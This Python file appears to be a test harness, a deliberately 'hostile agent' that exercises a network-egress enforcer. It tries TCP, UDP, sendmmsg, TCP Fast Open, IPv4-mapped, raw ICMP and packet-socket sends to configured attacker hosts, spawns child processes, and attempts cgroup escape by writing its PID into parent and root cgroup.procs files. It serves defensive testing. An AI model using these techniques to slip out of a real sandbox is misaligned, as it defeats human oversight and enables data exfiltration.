#!/usr/bin/env python3
"""Hostile agent for the enforcer integration tests (Python 3 stdlib only).

Usage: hostile_agent.py main CONFIG_JSON     (the agent itself)
       hostile_agent.py child CONFIG_JSON DEPTH  (a descendant: child/grandchild)

It tries every egress vector it knows and prints one JSON object per attempt
on stdout:
  {"name": ..., "expect": "allow"|"deny", "hook": "connect"|"sendmsg"|
   "sock_create"|"cgroup", "dst": "ip:port/proto" or null, "ok": bool,
   "errno": int|null, "err": str|null, "sent": bytes sent}
then `{"done": true}` and exits with CONFIG["exit_code"].

CONFIG keys: api_port, udp_port, other_port, attackers {host: port},
payload_prefix, exit_code, vectors (optional list of names to run),
ready_file / go_file (optional: write the results to ready_file, then wait
up to 60 s for go_file to exist before exiting).
"""
import ctypes
import errno as E
import json
import os
import socket
import struct
import sys
import time

OUT = []


def emit(rec):
    OUT.append(rec)
    sys.stdout.write(json.dumps(rec) + "\n")
    sys.stdout.flush()


def attempt(name, expect, hook, dst, fn):
    rec = {"name": name, "expect": expect, "hook": hook, "dst": dst,
           "ok": False, "errno": None, "err": None, "sent": 0, "pid": os.getpid()}
    try:
        extra = fn()
        rec["ok"] = True
        if isinstance(extra, int):
            rec["sent"] = extra
        elif isinstance(extra, dict):
            rec.update(extra)
    except OSError as e:
        rec["errno"] = e.errno
        rec["err"] = "%s: %s" % (E.errorcode.get(e.errno, "?"), e.strerror)
    except Exception as e:  # noqa: BLE001 - report, never crash
        rec["err"] = "%s: %s" % (type(e).__name__, e)
    emit(rec)
    return rec


def payload(cfg, name):
    return ("%s:%s\n" % (cfg["payload_prefix"], name)).encode()


def fam(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp_send(host, port, data, flags6=None):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_STREAM)
        s.settimeout(5)
        try:
            s.connect((host, port))
            s.sendall(data)
            return len(data)
        finally:
            s.close()
    return fn


def udp_sendto(host, port, data):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_DGRAM)
        try:
            return s.sendto(data, (host, port))
        finally:
            s.close()
    return fn


def udp_connect_send(host, port, data):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_DGRAM)
        try:
            s.connect((host, port))
            return s.send(data)
        finally:
            s.close()
    return fn


def udp_sendmsg(host, port, data):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_DGRAM)
        try:
            return s.sendmsg([data], [], 0, (host, port))
        finally:
            s.close()
    return fn


class Iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
                ("msg_iov", ctypes.POINTER(Iovec)), ("msg_iovlen", ctypes.c_size_t),
                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
                ("msg_flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("msg_hdr", Msghdr), ("msg_len", ctypes.c_uint)]


def udp_sendmmsg(host, port, data, count=3):
    """sendmmsg(2) through ctypes: `count` datagrams, each with its own address."""
    def fn():
        libc = ctypes.CDLL(None, use_errno=True)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            # sockaddr_in: family is host order, port/address network order
            sin = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton(host))
            addr = ctypes.create_string_buffer(sin, len(sin))
            buf = ctypes.create_string_buffer(data, len(data))
            iovs = (Iovec * count)()
            msgs = (Mmsghdr * count)()
            for i in range(count):
                iovs[i].iov_base = ctypes.cast(buf, ctypes.c_void_p)
                iovs[i].iov_len = len(data)
                msgs[i].msg_hdr.msg_name = ctypes.cast(addr, ctypes.c_void_p)
                msgs[i].msg_hdr.msg_namelen = len(sin)
                msgs[i].msg_hdr.msg_iov = ctypes.pointer(iovs[i])
                msgs[i].msg_hdr.msg_iovlen = 1
            n = libc.sendmmsg(s.fileno(), msgs, count, 0)
            if n < 0:
                err = ctypes.get_errno()
                raise OSError(err, os.strerror(err))
            return {"sent": sum(msgs[i].msg_len for i in range(n)), "messages": n}
        finally:
            s.close()
    return fn


MSG_FASTOPEN = 0x20000000
TCP_FASTOPEN_CONNECT = 30


def tfo_sendto(host, port, data):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_STREAM)
        s.settimeout(5)
        try:
            n = s.sendto(data, MSG_FASTOPEN, (host, port))
            time.sleep(0.2)
            return n
        finally:
            s.close()
    return fn


def tfo_connect(host, port, data):
    def fn():
        s = socket.socket(fam(host), socket.SOCK_STREAM)
        s.settimeout(5)
        try:
            s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
            s.connect((host, port))
            s.sendall(data)
            time.sleep(0.2)
            return len(data)
        finally:
            s.close()
    return fn


def icmp_echo():
    hdr = struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + b"exfil"
    csum = 0
    for i in range(0, len(hdr), 2):
        w = hdr[i] << 8 | (hdr[i + 1] if i + 1 < len(hdr) else 0)
        csum += w
    csum = (csum >> 16) + (csum & 0xFFFF)
    csum = ~(csum + (csum >> 16)) & 0xFFFF
    return hdr[:2] + struct.pack("!H", csum) + hdr[4:]


def raw_icmp(target):
    def fn():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        try:
            return s.sendto(icmp_echo(), (target, 0))
        finally:
            s.close()
    return fn


def ping_socket(target):
    def fn():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        try:
            return s.sendto(icmp_echo(), (target, 0))
        finally:
            s.close()
    return fn


def packet_socket():
    def fn():
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        s.close()
        return 0
    return fn


# ---- cgroup escape -------------------------------------------------------

def cgroup2_mount():
    with open("/proc/self/mounts") as f:
        for line in f:
            p = line.split()
            if len(p) > 2 and p[2] == "cgroup2":
                return p[1]
    raise OSError(E.ENOENT, "no cgroup2 mount")


def ns_cgroup_path():
    with open("/proc/self/cgroup") as f:
        for line in f:
            if line.startswith("0::"):
                return line[3:].strip()
    return None


def find_real_cgroup_dir(mount, pid, max_depth=4):
    """Walk the cgroup2 tree to find the directory whose cgroup.procs lists us."""
    base_depth = mount.rstrip("/").count("/")
    for root, dirs, files in os.walk(mount):
        if root.count("/") - base_depth >= max_depth:
            dirs[:] = []
        try:
            with open(os.path.join(root, "cgroup.procs")) as f:
                if str(pid) in f.read().split():
                    return root
        except OSError:
            continue
    return None


def write_procs(path):
    def fn():
        fd = os.open(path, os.O_WRONLY)
        try:
            os.write(fd, b"%d\n" % os.getpid())
        finally:
            os.close(fd)
        return 0
    return fn


# ---- children ------------------------------------------------------------

def run_child(cfg, depth):
    host = sorted(cfg["attackers"])[0]
    port = cfg["attackers"][host]
    who = "child" if depth == 1 else "grandchild"
    tag = host.replace(":", "_").replace(".", "_")
    attempt("%s_tcp_%s" % (who, tag), "deny", "connect", "%s:%d/tcp" % (host, port),
            tcp_send(host, port, payload(cfg, who)))
    attempt("%s_udp_%s" % (who, tag), "deny", "sendmsg", "%s:%d/udp" % (host, port),
            udp_sendto(host, port, payload(cfg, who)))
    if depth == 1:
        # grandchild through a raw fork + exec (not subprocess).
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.dup2(w, 1)
            os.execv(sys.executable, [sys.executable, os.path.abspath(__file__),
                                      "child", json.dumps(cfg), "2"])
        os.close(w)
        with os.fdopen(r) as f:
            data = f.read()
        os.waitpid(pid, 0)
        sys.stdout.write(data)
        sys.stdout.flush()


def spawn_child(cfg):
    import subprocess
    p = subprocess.run([sys.executable, os.path.abspath(__file__), "child", json.dumps(cfg), "1"],
                       stdout=subprocess.PIPE, timeout=60)
    for line in p.stdout.decode().splitlines():
        if line.strip():
            rec = json.loads(line)
            OUT.append(rec)
            sys.stdout.write(line + "\n")
    sys.stdout.flush()


# ---- main ----------------------------------------------------------------

def main(cfg):
    want = cfg.get("vectors")

    def on(name):
        return want is None or name in want

    lo = "127.0.0.1"
    api, udp, other = cfg["api_port"], cfg["udp_port"], cfg["other_port"]
    if on("allowed"):
        attempt("allowed_tcp", "allow", "connect", "%s:%d/tcp" % (lo, api),
                tcp_send(lo, api, payload(cfg, "allowed_tcp")))
        attempt("allowed_udp", "allow", "sendmsg", "%s:%d/udp" % (lo, udp),
                udp_sendto(lo, udp, payload(cfg, "allowed_udp")))
        attempt("allowed_mapped_tcp", "allow", "connect", "%s:%d/tcp" % (lo, api),
                tcp_send("::ffff:127.0.0.1", api, payload(cfg, "allowed_mapped_tcp")))
    if on("wrong_port"):
        attempt("wrong_port_tcp", "deny", "connect", "%s:%d/tcp" % (lo, other),
                tcp_send(lo, other, payload(cfg, "wrong_port_tcp")))
        attempt("wrong_port_udp", "deny", "sendmsg", "%s:%d/udp" % (lo, other),
                udp_sendto(lo, other, payload(cfg, "wrong_port_udp")))
        # the allowed udp port over tcp and the api port over udp: wrong protocol
        attempt("wrong_proto_udp_to_api", "deny", "sendmsg", "%s:%d/udp" % (lo, api),
                udp_sendto(lo, api, payload(cfg, "wrong_proto")))
    for host, port in sorted(cfg["attackers"].items()):
        v6 = ":" in host
        tag = host.replace(":", "_").replace(".", "_")
        if on("tcp"):
            attempt("tcp_%s" % tag, "deny", "connect", "%s:%d/tcp" % (host, port),
                    tcp_send(host, port, payload(cfg, "tcp_" + tag)))
        if on("udp"):
            attempt("udp_sendto_%s" % tag, "deny", "sendmsg", "%s:%d/udp" % (host, port),
                    udp_sendto(host, port, payload(cfg, "udp_sendto_" + tag)))
            attempt("udp_connect_%s" % tag, "deny", "connect", "%s:%d/udp" % (host, port),
                    udp_connect_send(host, port, payload(cfg, "udp_connect_" + tag)))
            attempt("udp_sendmsg_%s" % tag, "deny", "sendmsg", "%s:%d/udp" % (host, port),
                    udp_sendmsg(host, port, payload(cfg, "udp_sendmsg_" + tag)))
        if on("sendmmsg") and not v6:
            attempt("udp_sendmmsg_%s" % tag, "deny", "sendmsg", "%s:%d/udp" % (host, port),
                    udp_sendmmsg(host, port, payload(cfg, "sendmmsg_" + tag)))
        if on("tfo"):
            attempt("tfo_sendto_%s" % tag, "deny", "connect", "%s:%d/tcp" % (host, port),
                    tfo_sendto(host, port, payload(cfg, "tfo_sendto_" + tag)))
            attempt("tfo_connect_%s" % tag, "deny", "connect", "%s:%d/tcp" % (host, port),
                    tfo_connect(host, port, payload(cfg, "tfo_connect_" + tag)))
        if on("mapped") and not v6:
            m = "::ffff:" + host
            attempt("mapped_tcp_%s" % tag, "deny", "connect", "%s:%d/tcp" % (host, port),
                    tcp_send(m, port, payload(cfg, "mapped_tcp_" + tag)))
            attempt("mapped_udp_%s" % tag, "deny", "sendmsg", "%s:%d/udp" % (host, port),
                    udp_sendto(m, port, payload(cfg, "mapped_udp_" + tag)))
    target = sorted(h for h in cfg["attackers"] if ":" not in h)[0]
    if on("raw"):
        attempt("raw_icmp", "deny", "sock_create", None, raw_icmp(target))
        attempt("ping_socket", "deny", "sock_create", None, ping_socket(target))
        attempt("packet_socket", "deny", "sock_create", None, packet_socket())
    if on("children"):
        spawn_child(cfg)
    if on("cgroup"):
        cgroup_escape(cfg)
    result = {"done": True, "pid": os.getpid(), "uid": os.getuid()}
    emit(result)
    if cfg.get("ready_file"):
        tmp = cfg["ready_file"] + ".tmp"
        with open(tmp, "w") as f:
            json.dump(OUT, f)
        os.rename(tmp, cfg["ready_file"])
        deadline = time.time() + 60
        while not os.path.exists(cfg["go_file"]) and time.time() < deadline:
            time.sleep(0.05)
    sys.exit(cfg.get("exit_code", 3))


def cgroup_escape(cfg):
    host = sorted(h for h in cfg["attackers"] if ":" not in h)[0]
    port = cfg["attackers"][host]
    mount = cgroup2_mount()
    nspath = ns_cgroup_path()
    # Our real directory (the namespace shows "/"), found by walking the tree.
    real = find_real_cgroup_dir(mount, os.getpid())
    emit({"name": "cgroup_view", "info": True, "ns_path": nspath, "mount": mount, "real_dir": real})
    # 1. A nested cgroup under our own: mkdir, move in, connect.
    own = real or os.path.join(mount, (nspath or "/").lstrip("/"))
    nested = os.path.join(own, "nested-escape")
    mk = attempt("cgroup_nested_mkdir", "any", "cgroup", nested, lambda: os.mkdir(nested) or 0)
    if mk["ok"]:
        attempt("cgroup_nested_move", "any", "cgroup", nested,
                write_procs(os.path.join(nested, "cgroup.procs")))
        emit({"name": "cgroup_after_move", "info": True, "ns_path": ns_cgroup_path(),
              "real_dir": find_real_cgroup_dir(mount, os.getpid(), 6)})
    attempt("nested_tcp", "deny", "connect", "%s:%d/tcp" % (host, port),
            tcp_send(host, port, payload(cfg, "nested_tcp")))
    attempt("nested_udp", "deny", "sendmsg", "%s:%d/udp" % (host, port),
            udp_sendto(host, port, payload(cfg, "nested_udp")))
    # 2. The real host path of the parent cgroup.
    if real and os.path.normpath(real) != os.path.normpath(mount):
        parent = os.path.dirname(os.path.normpath(real))
        attempt("cgroup_escape_real_parent", "deny", "cgroup", parent,
                write_procs(os.path.join(parent, "cgroup.procs")))
    # 3. The parent as seen inside the cgroup namespace ("/" -> "/"), i.e.
    #    the cgroup2 mount's own cgroup.procs: the host root cgroup.
    ns_parent = os.path.normpath(os.path.join(mount, (nspath or "/").lstrip("/"), ".."))
    if not ns_parent.startswith(mount):
        ns_parent = mount
    attempt("cgroup_escape_ns_parent", "deny", "cgroup", ns_parent,
            write_procs(os.path.join(ns_parent, "cgroup.procs")))
    attempt("cgroup_escape_root", "deny", "cgroup", mount,
            write_procs(os.path.join(mount, "cgroup.procs")))
    emit({"name": "cgroup_after_escape", "info": True, "ns_path": ns_cgroup_path(),
          "real_dir": find_real_cgroup_dir(mount, os.getpid(), 6)})
    attempt("after_escape_tcp", "deny", "connect", "%s:%d/tcp" % (host, port),
            tcp_send(host, port, payload(cfg, "after_escape")))
    attempt("after_escape_udp", "deny", "sendmsg", "%s:%d/udp" % (host, port),
            udp_sendto(host, port, payload(cfg, "after_escape_udp")))


if __name__ == "__main__":
    mode = sys.argv[1]
    conf = json.loads(sys.argv[2])
    if mode == "child":
        run_child(conf, int(sys.argv[3]))
    else:
        main(conf)
